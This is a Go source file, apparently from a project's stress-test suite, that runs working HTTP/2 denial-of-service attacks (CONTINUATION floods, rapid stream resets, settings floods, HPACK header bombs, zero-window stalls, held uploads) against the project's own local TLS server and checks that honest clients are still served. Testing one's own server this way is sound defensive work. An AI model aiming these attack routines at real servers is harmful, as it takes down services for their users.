//go:build linux

package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"math/big"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"unbox/internal/processes"
)

// http2Attacks speak HTTP/2, which a server speaks that encrypts: each starts one.
func http2Attacks() []attack {
	get := func(name, about string, quick bool, n int, do func(ctx context.Context, a *arena, c *frames) error) attack {
		return attack{name: name, about: about, quick: quick, own: func(ctx context.Context, a *arena) samples {
			return a.encrypted(ctx, n, do)
		}}
	}
	return []attack{
		get("h2-continuation", "headers of one request in CONTINUATION frames without an end", true, 30, func(ctx context.Context, a *arena, c *frames) error {
			err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.request("GET", "/", 0)})
			for k := 0; k < 100_000 && err == nil && ctx.Err() == nil; k++ {
				err = c.WriteContinuation(1, false, c.fields("x-a", strings.Repeat("b", 8000)))
			}
			return err
		}),
		get("h2-reset", "requests taken back at once, as fast as they are taken", true, 30, func(ctx context.Context, a *arena, c *frames) error {
			var err error
			for id := uint32(1); id < 200_000 && err == nil && ctx.Err() == nil; id += 2 {
				err = errors.Join(c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.request("GET", "/lessons/", 0), EndHeaders: true, EndStream: true}),
					c.WriteRSTStream(id, http2.ErrCodeCancel))
			}
			return err
		}),
		get("h2-settings", "settings and pings as fast as they are taken, answers not read", true, 60, func(ctx context.Context, a *arena, c *frames) error {
			c.deaf()
			var err error
			for k := 0; k < 500_000 && err == nil && ctx.Err() == nil; k++ {
				err = errors.Join(c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(k)}), c.WritePing(false, [8]byte{1}))
			}
			return err
		}),
		get("h2-empty-data", "bodies in DATA frames of no length, headers without an end of the request", false, 30, func(ctx context.Context, a *arena, c *frames) error {
			err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.request("POST", "/lessons/pass", 14<<20), EndHeaders: true})
			for k := 0; k < 500_000 && err == nil && ctx.Err() == nil; k++ {
				err = c.WriteData(1, false, nil)
			}
			return err
		}),
		get("h2-window-zero", "100 requests for a page on each connection, and no room for their answers", true, 100, func(ctx context.Context, a *arena, c *frames) error {
			err := c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			for id := uint32(1); id < 200 && err == nil; id += 2 {
				err = c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.request("GET", "/lessons/search.json", 0), EndHeaders: true, EndStream: true})
			}
			pause(ctx, 12*time.Second)
			return err
		}),
		get("h2-window-one", "answers of which one byte at a time may come", false, 60, func(ctx context.Context, a *arena, c *frames) error {
			err := c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
			err = errors.Join(err, c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.request("GET", "/", 0), EndHeaders: true, EndStream: true}))
			for err == nil && ctx.Err() == nil {
				err = c.WriteWindowUpdate(1, 1)
				pause(ctx, 20*time.Millisecond)
			}
			return err
		}),
		get("h2-window-overflow", "windows that grow beyond 2^31, priorities that depend on themselves, frames of no kind", false, 30, func(ctx context.Context, a *arena, c *frames) error {
			err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.request("GET", "/", 0), EndHeaders: true, EndStream: true,
				Priority: http2.PriorityParam{StreamDep: 1, Exclusive: true}})
			return errors.Join(err, c.WriteRawFrame(0xee, 0xff, 7, make([]byte, 100)), c.WriteWindowUpdate(0, 1<<31-1), c.WriteWindowUpdate(0, 1<<31-1))
		}),
		get("h2-header-bomb", "a header that stands in the table once, named 60,000 times", true, 30, func(ctx context.Context, a *arena, c *frames) error {
			block := c.request("GET", "/", 0)
			block = append(block, c.fields("x-long", strings.Repeat("a", 3000))...)
			again := c.fields("x-long", strings.Repeat("a", 3000))
			return c.split(1, append(block, bytes.Repeat(again, 60_000)...))
		}),
		get("h2-unread-bodies", "uploads of a megabyte on each of 700 connections, while others hold the memory for uploads", true, 700, func(ctx context.Context, a *arena, c *frames) error {
			return c.upload(ctx, a, "/lessons/pass")
		}),
		get("h2-unread-bodies-get", "bodies of a megabyte with requests that have none, whose answers have no room", false, 700, func(ctx context.Context, a *arena, c *frames) error {
			err := c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			return errors.Join(err, c.upload(ctx, a, "/lessons/search.json"))
		}),
	}
}

// frames is a connection over HTTP/2.
type frames struct {
	*http2.Framer
	conn  net.Conn
	table *hpack.Encoder
	block *bytes.Buffer
	host  string
	// window is how much may be sent, silent that nothing is read.
	window atomic.Int64
	silent atomic.Bool
}

// paced writes to a server, and rests for 20 ms after each 50 frames or 16 KB: unlike remote attackers, ours share processors with it, and
// no network between them slows them down. Thirty of them still send 24 MB in a second.
type paced struct {
	ctx           context.Context
	to            net.Conn
	frames, bytes int
}

func (p *paced) Write(b []byte) (int, error) {
	p.frames++
	p.bytes += len(b)
	if p.frames >= 50 || p.bytes >= 16<<10 {
		p.frames, p.bytes = 0, 0
		pause(p.ctx, 20*time.Millisecond)
	}
	return p.to.Write(b)
}

// dialFrames opens one from an address.
//
// Errors: the server refuses.
func (a *arena) dialFrames(ctx context.Context, s *server, ip string) (*frames, error) {
	raw, err := dialerFrom(ip).DialContext(ctx, "tcp", s.addr)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { _ = raw.Close() })                                         // the attack is over
	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) // it is our own server
	if err := conn.HandshakeContext(ctx); err != nil {
		return nil, errors.Join(err, raw.Close())
	}
	c := &frames{Framer: http2.NewFramer(&paced{ctx: ctx, to: conn}, conn), conn: conn, block: new(bytes.Buffer), host: s.addr}
	c.AllowIllegalWrites = true
	c.table = hpack.NewEncoder(c.block)
	c.window.Store(65535)
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, err
	}
	if err := c.WriteSettings(); err != nil {
		return nil, err
	}
	go c.read(a)
	return c, nil
}

// read reads frames, and notes what the server says.
func (c *frames) read(a *arena) {
	for !c.silent.Load() {
		f, err := c.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.WindowUpdateFrame:
			c.window.Add(int64(f.Increment))
		case *http2.GoAwayFrame:
			a.saw("goes away: %v", f.ErrCode)
		case *http2.RSTStreamFrame:
			a.saw("reset: %v", f.ErrCode)
		case *http2.HeadersFrame:
			a.saw("answers")
		}
	}
}

// deaf stops reading.
func (c *frames) deaf() { c.silent.Store(true) }

// fields are headers, as they are compressed.
func (c *frames) fields(pairs ...string) []byte {
	c.block.Reset()
	for i := 0; i+1 < len(pairs); i += 2 {
		_ = c.table.WriteField(hpack.HeaderField{Name: pairs[i], Value: pairs[i+1]}) // a buffer takes everything
	}
	return bytes.Clone(c.block.Bytes())
}

// request are the headers of a request with a body of that many bytes.
func (c *frames) request(method, path string, length int) []byte {
	pairs := []string{":method", method, ":scheme", "https", ":authority", c.host, ":path", path}
	if length > 0 {
		pairs = append(pairs, "content-type", "application/json", "content-length", strconv.Itoa(length))
	}
	return c.fields(pairs...)
}

// split sends headers in as many frames as they need.
func (c *frames) split(id uint32, block []byte) error {
	n := min(len(block), 16<<10)
	err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block[:n], EndHeaders: n == len(block), EndStream: true})
	for block = block[n:]; len(block) > 0 && err == nil; block = block[n:] {
		n = min(len(block), 16<<10)
		err = c.WriteContinuation(id, n == len(block), block[:n])
	}
	return err
}

// upload sends as much of a body as the server lets it, and waits.
func (c *frames) upload(ctx context.Context, a *arena, path string) error {
	method := "POST"
	if path != "/lessons/pass" {
		method = "GET"
	}
	err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.request(method, path, 14<<20), EndHeaders: true})
	piece := bytes.Repeat([]byte("["), 16<<10)
	until := time.Now().Add(12 * time.Second)
	for sent := int64(0); err == nil && ctx.Err() == nil && time.Now().Before(until); {
		if sent+int64(len(piece)) > c.window.Load() || sent > 1<<20 {
			pause(ctx, 50*time.Millisecond)
			continue
		}
		err = c.WriteData(1, false, piece)
		sent += int64(len(piece))
	}
	return err
}

// encrypted starts a server with a certificate of its own, attacks it over n connections again and again, and visits it meanwhile.
func (a *arena) encrypted(ctx context.Context, n int, do func(ctx context.Context, a *arena, c *frames) error) samples {
	s, stop, err := a.startEncrypted()
	if err != nil {
		a.fault("%v", err)
		return nil
	}
	defer stop()
	h, err := newHonest(ctx, s, a.options, honestAddress)
	if err == nil {
		err = h.warm(ctx)
	}
	if err != nil {
		a.fault("%v", err)
		return nil
	}
	attacking, cancel := context.WithTimeout(ctx, a.options.most())
	defer cancel()
	done := make(chan struct{})
	go func() {
		defer close(done)
		a.repeat(attacking, n, 100, func(i int) {
			c, err := a.dialFrames(attacking, s, address(i))
			if err != nil {
				if attacking.Err() == nil {
					a.saw("no connection")
				}
				return
			}
			defer c.conn.Close()
			_ = c.conn.SetWriteDeadline(time.Now().Add(20 * time.Second))
			if err := do(attacking, a, c); err != nil && attacking.Err() == nil {
				a.saw("hung up")
			}
		})
	}()
	var seen samples
	for attacking.Err() == nil && s.alive() {
		seen = append(seen, visit(attacking, h, 1)...)
	}
	if len(seen) > 0 && ctx.Err() == nil { // the last one was cut off
		seen = seen[:max(0, len(seen)-2)]
	}
	<-done
	if len(seen) == 0 {
		a.saw("nobody honest was served meanwhile")
	}
	main := processes.Size(s.pid(), "VmHWM")
	a.saw("main process %s", megabytes(main))
	if main >= maxMain {
		a.fault("expected a main process below %s, found %s", megabytes(maxMain), megabytes(main))
	}
	if err := s.ready(ctx); err != nil {
		a.fault("%v", err)
	}
	return seen
}

// startEncrypted starts a server that encrypts.
func (a *arena) startEncrypted() (s *server, stop func(), err error) {
	dir, err := os.MkdirTemp("", "unbox-attack-tls-")
	if err != nil {
		return nil, nil, err
	}
	cert, key := filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	if err = writeCertificate(cert, key); err == nil {
		s, err = startServer(a.options.program("serve"), nil, "--cache", a.cache, "--tls-cert", cert, "--tls-key", key)
	}
	if err != nil {
		return nil, nil, errors.Join(err, os.RemoveAll(dir))
	}
	return s, func() {
		if s.alive() {
			if err := s.stop(30 * time.Second); err != nil {
				a.fault("%v: %s", err, s.log)
			}
		} else {
			a.fault("the server ended: %v: %s", s.err, firstLine(s.log.String()))
		}
		_ = os.RemoveAll(dir) // files may stay in a folder for temporary files
	}, nil
}

// writeCertificate writes a certificate for 127.0.0.1 and its key.
func writeCertificate(cert, key string) error {
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return err
	}
	about := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour), IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}}
	made, err := x509.CreateCertificate(rand.Reader, about, about, &k.PublicKey, k)
	if err != nil {
		return err
	}
	private, err := x509.MarshalPKCS8PrivateKey(k)
	if err != nil {
		return err
	}
	return errors.Join(os.WriteFile(cert, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: made}), 0o600),
		os.WriteFile(key, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: private}), 0o600))
}
